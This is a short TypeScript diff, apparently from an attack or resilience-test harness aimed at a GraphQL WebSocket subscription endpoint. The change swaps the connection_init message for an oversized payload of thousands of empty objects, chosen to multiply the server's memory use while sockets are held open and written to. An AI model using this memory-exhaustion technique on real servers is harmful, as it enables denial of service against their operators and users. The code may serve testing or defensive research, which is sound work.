@@ -11,6 +11,8 @@ interface Attack {
 
 const QUERY =
   'subscription ($attemptId: ID!, $secret: String!) { loginAttemptStatus(attemptId: $attemptId, secret: $secret) { status } }';
+/** As large as a message may be, of values that take twenty times their size in memory. */
+const INIT = clientFrame(`{"type":"connection_init","payload":{"x":[${'{},'.repeat(2_700)}{}]}}`);
 const AGAIN_AFTER_MS = 1_000;
 const WRITE_EVERY_MS = 50;
 
@@ -57,7 +59,7 @@ function keepOpen(attacker: { port: number; first: string; frames: Buffer | unde
     if (!reads) socket.pause();
     else socket.resume();
     if (status !== '101' || !frames) return;
-    socket.write(clientFrame('{"type":"connection_init"}'));
+    socket.write(INIT);
     writing = setInterval(() => socket.writableLength < 65_536 && socket.write(frames), WRITE_EVERY_MS);
   });
 }
